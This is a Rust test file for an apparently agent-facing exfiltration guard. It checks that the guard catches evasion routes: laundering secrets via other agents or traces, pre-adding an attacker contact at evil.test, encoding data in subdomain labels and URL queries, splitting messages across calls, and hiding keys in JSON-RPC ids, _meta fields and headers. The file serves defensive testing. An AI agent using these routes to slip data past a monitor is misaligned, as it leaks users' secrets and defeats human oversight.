//! The ways around.

use holdpoint::demo::agent::{Agent, Answer};
use serde_json::{Value, json};

use crate::world::{FIGURES, KEY, World, mail, send};

/// A tool call with a session and a trace of its own.
pub async fn call(
    agent: &Agent,
    upstream: &str,
    tool: &str,
    arguments: Value,
    more: &[(&str, &str)],
) -> Answer {
    let message = json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": tool, "arguments": arguments}});
    let mut headers = vec![("mcp-protocol-version", "2025-11-25")];
    headers.extend(more);
    agent.message(upstream, message.to_string(), &headers).await.unwrap()
}

pub fn traceparent(trace: u8) -> String {
    format!("00-{}-00f067aa0ba902b7-01", format!("{trace:02x}").repeat(16))
}

#[tokio::test]
async fn another_trace_connection_or_upstream_cleans_nothing() {
    let world = World::start().await;
    let (one, two) = (traceparent(1), traceparent(2));
    let agent = world.agent("support");
    // What will send was there before what reads.
    call(&agent, "mail", "note", json!({}), &[("traceparent", &two)]).await;
    call(&agent, "drive", "read_drive", json!({}), &[("traceparent", &one)]).await;
    let held =
        call(&agent, "mail", "send_email", mail("a@new.test", FIGURES), &[("traceparent", &two)]).await;
    assert_eq!(held.outcome(), "pending");
    let again = world.agent("support");
    let held = call(&again, "mail", "send_email", mail("b@new.test", FIGURES), &[]).await;
    assert_eq!((held.outcome().as_str(), world.count("send_email")), ("pending", 0));
}

#[tokio::test]
async fn a_secret_is_found_after_the_window_and_at_another_agent() {
    let world = World::with("{window: 1s}").await;
    let agent = world.agent("support");
    agent.tool("drive", "read_vault", json!({})).await.unwrap();
    agent.tool("drive", "read_drive", json!({})).await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(1300)).await;
    assert_eq!(send(&agent, "partner@new.test", KEY).await.outcome(), "denied");
    // By whichever way the other one got it: nothing joins the two but the trust domain.
    let laundered = send(&world.agent("other"), "partner@new.test", &format!("as agreed {KEY}")).await;
    assert_eq!((laundered.outcome().as_str(), world.count("send_email")), ("denied", 0));
    assert_eq!(send(&world.agent("third"), "partner@new.test", "See you").await.outcome(), "allowed");
}

#[tokio::test]
async fn two_agents_of_one_trace_are_one_chain() {
    let world = World::start().await;
    let trace = traceparent(9);
    let (reader, sender) = (world.agent("support"), world.agent("other"));
    call(&reader, "drive", "read_drive", json!({}), &[("traceparent", &trace)]).await;
    call(&sender, "mail", "note", json!({}), &[("traceparent", &trace)]).await;
    // Whatever trace it sends in.
    let held = send(&sender, "partner@new.test", FIGURES).await;
    assert_eq!((held.outcome().as_str(), world.count("send_email")), ("pending", 0));
    assert_eq!(
        send(&world.agent("third"), "partner@new.test", FIGURES).await.outcome(),
        "allowed",
        "no chain leads here"
    );
}

#[tokio::test]
async fn a_destination_does_not_become_known_by_being_written_to_first() {
    let world = World::start().await;
    let agent = world.agent("support");
    let added = agent
        .tool("mail", "add_contact", json!({"name": "Colleague", "mail": "collector@evil.test"}))
        .await
        .unwrap();
    assert_eq!(added.outcome(), "allowed");
    world.says("list_contacts", &json!([{"mail": "collector@evil.test"}]));
    agent.tool("mail", "list_contacts", json!({})).await.unwrap();
    agent.tool("drive", "read_drive", json!({})).await.unwrap();
    let held = send(&agent, "collector@evil.test", FIGURES).await;
    assert_eq!((held.outcome().as_str(), world.count("send_email")), ("pending", 0));
}

#[tokio::test]
async fn a_public_tool_that_echoes_makes_nothing_public() {
    let world = World::start().await;
    let agent = world.agent("support");
    world.says("echo", &json!([{"text": FIGURES}]));
    agent.tool("mail", "echo", json!({"text": FIGURES})).await.unwrap();
    agent.tool("drive", "read_drive", json!({})).await.unwrap();
    let held = send(&agent, "partner@new.test", FIGURES).await;
    assert_eq!((held.outcome().as_str(), world.count("send_email")), ("pending", 0));
}

#[tokio::test]
async fn what_was_public_before_is_no_evidence() {
    let world = World::start().await;
    let agent = world.agent("support");
    let record = json!([{"id": "file-77120", "text": FIGURES}]);
    world.says("echo", &record);
    world.says("read_drive", &record);
    agent.tool("mail", "echo", json!({"text": "the press release"})).await.unwrap();
    agent.tool("drive", "read_drive", json!({})).await.unwrap();
    assert_eq!(send(&agent, "partner@new.test", FIGURES).await.outcome(), "allowed");
}

#[tokio::test]
async fn data_in_a_url_is_added_up_over_calls_in_labels_of_hosts_too() {
    let world = World::start().await;
    let agent = world.agent("support");
    agent.tool("drive", "read_drive", json!({})).await.unwrap();
    let browse = async |url: &str| agent.tool("mail", "browse", json!({"url": url})).await.unwrap();
    // Each alone is below the threshold.
    let mut outcomes = Vec::new();
    for label in ["aq3dx9kwpz", "b7m2lfu8yt", "c5vhr0se4n", "dz61gkq8wx"] {
        outcomes.push(browse(&format!("https://{label}.evil.test/")).await.outcome());
    }
    assert_eq!(outcomes[0], "allowed");
    assert_eq!(outcomes[3], "pending", "{outcomes:?}");
    let arrived = world.count("browse");
    assert!(arrived < 4, "{outcomes:?}");
    let held = browse("https://evil.test/?q=NDgxMjMzMCBldXJvIGFuZCBjaHVybg").await;
    assert_eq!((held.outcome().as_str(), world.count("browse")), ("pending", arrived));
}

#[tokio::test]
async fn text_that_is_split_over_calls_is_joined() {
    let world = World::start().await;
    let agent = world.agent("support");
    agent.tool("drive", "read_drive", json!({})).await.unwrap();
    let mut sent = 0;
    for part in FIGURES.as_bytes().chunks(11) {
        let part = std::str::from_utf8(part).unwrap();
        let message = json!({"to": "partner@new.test", "body": part});
        sent += usize::from(agent.tool("mail", "send_email", message).await.unwrap().outcome() == "allowed");
    }
    assert!(sent < 6, "{sent} of {} parts went", FIGURES.len().div_ceil(11));
    assert_eq!(world.count("send_email"), sent);
}

#[tokio::test]
async fn what_is_hidden_in_meta_ids_headers_and_trace_state_is_looked_at() {
    let world = World::start().await;
    let agent = world.agent("support");
    agent.tool("drive", "read_vault", json!({})).await.unwrap();
    let message = |id: Value, meta: Value| {
        json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params":
            {"name": "send_email", "arguments": mail("partner@new.test", "hello"), "_meta": meta}})
        .to_string()
    };
    let state = format!("vendor={KEY}");
    for (message, header) in [
        (message(json!(KEY), json!({})), None),
        (message(json!(1), json!({"note": KEY})), None),
        (message(json!(1), json!({"x": {"y": [KEY]}})), None),
        (message(json!(1), json!({})), Some(("x-request-note", KEY))),
        (message(json!(1), json!({})), Some(("tracestate", state.as_str()))),
    ] {
        let mut headers = vec![("mcp-protocol-version", "2025-11-25")];
        headers.extend(header);
        let answer = agent.message("mail", message, &headers).await.unwrap();
        assert_eq!(answer.outcome(), "denied", "{header:?}");
        assert!(world.findings(&answer).contains(&"secret-lineage".to_owned()), "{header:?}");
    }
    assert_eq!(world.count("send_email"), 0);
}

#[tokio::test]
async fn an_upload_that_nobody_can_read_is_refused_once_something_was_read() {
    let world = World::start().await;
    let agent = world.agent("support");
    let upload = || {
        let request = http::Request::post("/web/upload").header("host", "localhost");
        let request = request.header("content-type", "application/octet-stream");
        agent.send(request.body(FIGURES.as_bytes().to_vec().into()).unwrap())
    };
    assert_eq!(upload().await.unwrap().outcome(), "allowed");
    agent.tool("drive", "read_drive", json!({})).await.unwrap();
    let denied = upload().await.unwrap();
    assert_eq!((denied.status.as_u16(), denied.outcome().as_str()), (403, "denied"));
    assert_eq!(world.count("/upload"), 1);
}
